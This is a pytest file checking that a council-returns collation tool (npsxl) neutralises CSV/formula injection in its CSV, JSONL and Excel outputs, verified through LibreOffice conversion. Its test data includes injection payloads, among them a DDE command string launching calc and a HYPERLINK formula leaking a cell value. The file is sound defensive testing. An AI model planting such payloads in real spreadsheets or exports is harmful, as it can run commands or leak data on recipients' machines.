"""Text from councils' returns is harmless to open in every output: the CSVs follow OWASP's
CSV-injection rule (checked by opening them in LibreOffice, whose default CSV import turns
formula-like text into live formulas), the JSON Lines files keep the text exactly as typed,
and the summary workbook keeps it text with the cell style's quote prefix."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import sample_answers, soffice_convert
from test_cli import small_register

from npsxl.cli import cli
from npsxl.model.answers import Answer
from npsxl.workbook.writer import build_workbook

TYPED = [
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "Fine;=1+2",
    "Plain, with a comma",
]


@pytest.fixture(scope="module")
def collated(model, register, tmp_path_factory):
    """`npsxl collate` of two generated returns whose evidence and actions hold TYPED."""
    folder = tmp_path_factory.mktemp("untrusted")
    paths = []
    for council in ("Leeds", "Bradford"):
        answers = sample_answers(model)
        for i, item_id in enumerate(list(answers)[: len(TYPED)]):
            old = answers[item_id]
            answers[item_id] = Answer(
                item_id, old.current, old.target, TYPED[i], TYPED[-1 - i], old.target_date
            )
        path = folder / f"{council}.xlsx"
        build_workbook(model, path, register.match(council), answers=answers)
        paths.append(path)
    data = folder / "data"
    result = CliRunner().invoke(
        cli,
        [
            "collate",
            *map(str, paths),
            "--register",
            str(small_register(folder, register)),
            "--out",
            str(folder / "summary.xlsx"),
            "--data-dir",
            str(data),
        ],
    )
    assert result.exit_code == 0, result.output
    return folder, data


def test_the_csvs_hold_text_made_safe_and_the_jsonl_the_text_as_typed(collated):
    _, data = collated
    with (data / "answers.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    evidence = {row["evidence"] for row in rows}
    safe = {"'" + t for t in TYPED[:5]} | {"Fine;'=1+2", "Plain, with a comma"}
    assert safe <= evidence
    assert not evidence & set(TYPED[:5])
    exact = [json.loads(line) for line in (data / "answers.jsonl").read_text("utf-8").splitlines()]
    assert len(exact) == len(rows)
    assert set(TYPED) <= {row["evidence"] for row in exact} & {row["actions"] for row in exact}
    assert [row["current_score"] for row in exact] == [
        int(row["current_score"]) for row in rows
    ]  # numbers stay numbers
    assert (data / "returns.jsonl").is_file() and (data / "respondents.jsonl").is_file()


def _formulas(xlsx) -> list[str]:
    book = openpyxl.load_workbook(xlsx)
    return [c.value for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_libreoffice_opens_every_csv_without_a_formula(collated, tmp_path):
    """LibreOffice's default CSV import evaluates a leading '=': none of npsxl's CSVs gives a
    formula cell, while the same answers written by pandas as they are do (the check bites)."""
    _, data = collated
    raw = tmp_path / "raw-answers.csv"
    answers = pd.read_json(data / "answers.jsonl", lines=True, dtype=False)
    answers.to_csv(raw, index=False)
    csvs = sorted(data.glob("*.csv"))
    converted = soffice_convert([*csvs, raw], "xlsx", tmp_path / "lo")
    assert len(_formulas(converted["raw-answers"])) == 8  # the control: 2 "=" texts x 2 fields x 2
    for path in csvs:
        assert _formulas(converted[path.stem]) == [], path.name


def test_libreoffice_importing_with_semicolons_finds_no_formula(collated, tmp_path):
    """An import that splits on ';' (the separator in much of Europe) cannot cut a formula
    off the middle of a field: fields with a semicolon are quoted."""
    _, data = collated
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice (soffice) is not installed"
    out = tmp_path / "semi"
    subprocess.run(
        [
            soffice,
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path / '.lo-profile'}",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(data / "answers.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    assert _formulas(out / "answers.xlsx") == []


def test_the_summary_workbook_keeps_formula_like_text_as_typed_and_as_text(collated, tmp_path):
    """No apostrophe in the text: the cell style's quote prefix keeps it text, in the sheets
    xlsxwriter writes and in the rows spliced into the Data sheet; LibreOffice opens it and
    saves it again with the text as typed, still no formula."""
    folder, _ = collated
    book = openpyxl.load_workbook(folder / "summary.xlsx")
    data = [c for row in book["Data"].iter_rows() for c in row if c.value in TYPED]
    assert {c.value for c in data} == set(TYPED)
    for cell in data:
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == cell.value.startswith(("=", "+", "-", "@")), cell.value
    texts = [c.value for ws in book for row in ws.iter_rows() for c in row if c.data_type == "s"]
    assert not [t for t in texts if t.startswith("'=")]
    resaved = soffice_convert([folder / "summary.xlsx"], "xlsx", tmp_path / "lo")["summary"]
    again = openpyxl.load_workbook(resaved)
    assert _formulas(resaved) == []
    assert set(TYPED) <= {c.value for row in again["Data"].iter_rows() for c in row}


def test_a_workbook_prefilled_from_last_round_keeps_its_text_as_typed_and_as_text(
    collated, model, register, tmp_path
):
    """`npsxl generate --prefill`: last round's evidence and actions are copied into the new
    workbook exactly as typed, formula-like text with the quote prefix (so editing the cell
    cannot turn it into a formula); LibreOffice opens it with no formula made of them, and
    the new workbook reads back the same text."""
    from npsxl.reading.reader import read_return

    folder, _ = collated
    out = tmp_path / "next"
    result = CliRunner().invoke(
        cli,
        [
            "generate",
            "--prefill",
            str(folder / "Leeds.xlsx"),
            "--register",
            str(small_register(tmp_path, register)),
            "--out",
            str(out),
            "--round",
            "2028",
        ],
    )
    assert result.exit_code == 0, result.output
    (made,) = [p for p in out.rglob("*.xlsx") if "Leeds" in p.name or "E08000035" in p.name]
    sheet = openpyxl.load_workbook(made)["Self-assessment"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value in TYPED]
    assert {c.value for c in cells} == set(TYPED)
    for cell in cells:
        assert cell.data_type == "s"
        assert bool(cell.quotePrefix) == cell.value.startswith(("=", "+", "-", "@")), cell.value
    resaved = soffice_convert([made], "xlsx", tmp_path / "lo")[made.stem]
    shown = {
        c.value
        for row in openpyxl.load_workbook(resaved)["Self-assessment"].iter_rows()
        for c in row
    }
    assert set(TYPED) <= shown
    assert not [f for f in _formulas(resaved) if any(t[1:] in f for t in TYPED)]
    answers = read_return(made, model).answers
    assert set(TYPED) <= {a.evidence for a in answers.values()} | {
        a.actions for a in answers.values()
    }
